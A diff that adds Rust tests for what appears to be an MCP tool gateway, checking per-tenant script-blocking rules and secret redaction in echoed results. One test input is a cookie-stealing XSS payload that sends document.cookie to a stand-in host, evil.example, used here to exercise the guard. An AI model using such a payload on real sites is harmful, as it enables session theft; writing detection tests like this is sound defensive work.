@@ -363,3 +363,80 @@ async fn watches_are_counted() {
     assert_eq!(source.watched.lock().unwrap().len(), 2);
     assert_eq!(source.watched.lock().unwrap()[1], ("x://r".to_owned(), false));
 }
+
+fn patterns(strongest: ferromcp_guard::Action) -> ferromcp_guard::PatternPolicy {
+    ferromcp_guard::PatternPolicy::compile(&ferromcp_guard::PatternConfig {
+        strongest,
+        ..ferromcp_guard::PatternConfig::default()
+    })
+    .unwrap()
+}
+
+#[tokio::test]
+async fn pattern_rules_are_those_of_the_tenant_and_off_without_a_policy() {
+    use ferromcp_guard::Action;
+    use ferromcp_tenancy::{Directory, TenantSettings};
+
+    let tenant = |id: &str| TenantSettings {
+        id: id.into(),
+        ..TenantSettings::default()
+    };
+    let settings = crate::AccessSettings {
+        directory: Directory::new(&[tenant("strict"), tenant("lenient")]).unwrap(),
+        patterns: Some(patterns(Action::Block)),
+        tenant_patterns: HashMap::from([("lenient".to_owned(), patterns(Action::Flag))]),
+        ..crate::AccessSettings::default()
+    };
+    let notes = Notes::default();
+    let gateway = Gateway::new(Identity::default(), Policy::default(), notes.clone())
+        .with_access(Access::new(settings));
+    let source = Arc::new(Tools::default());
+    gateway.publish(listing(&source));
+    let arguments = r#"{"msg":"<script>fetch('//evil.example/'+document.cookie)</script>"}"#;
+    let rule = async |tenant: &str| {
+        let outcome = call_as(&gateway, Credential::Tenant(tenant), arguments).await;
+        outcome.result.err().and_then(|error| error.rule())
+    };
+    let refused = rule("strict").await.unwrap();
+    assert!(refused.starts_with("pattern.script."), "{refused}");
+    assert_eq!(rule("lenient").await, None);
+    assert_eq!(
+        rule("local").await,
+        Some(refused),
+        "local users are held to the default"
+    );
+    let (open, _, _) = self::gateway(Policy::default());
+    assert!(call_as(&open, Credential::Local, arguments).await.result.is_ok());
+}
+
+async fn call_as(gateway: &Gateway, credential: Credential<'_>, arguments: &str) -> Outcome {
+    gateway
+        .call(&Call {
+            operation: Operation::CallTool,
+            name: "echo",
+            arguments: Some(arguments),
+            params: None,
+            meta: &RequestMeta::default(),
+            version: ProtocolVersion::LATEST,
+            door: Door::Library,
+            credential,
+            tenant: None,
+            client: &NoClient,
+            input: None,
+            timeout: None,
+        })
+        .await
+}
+
+#[tokio::test]
+async fn results_are_redacted_where_the_policy_says_so() {
+    let policy = Policy {
+        redact: ferromcp_guard::Redactor::new(&ferromcp_guard::Sensitive::SECRETS),
+        ..Policy::default()
+    };
+    let (gateway, _, _) = gateway(policy);
+    let key = format!("AKIA{}", "IOSFODNN7EXAMPLQ");
+    let arguments = json!({ "msg": format!("the key is {key}.") }).to_string();
+    let shown = text(&call(&gateway, "echo", Some(&arguments)).await);
+    assert!(!shown.contains(&key) && shown.contains("[redacted:"), "{shown}");
+}
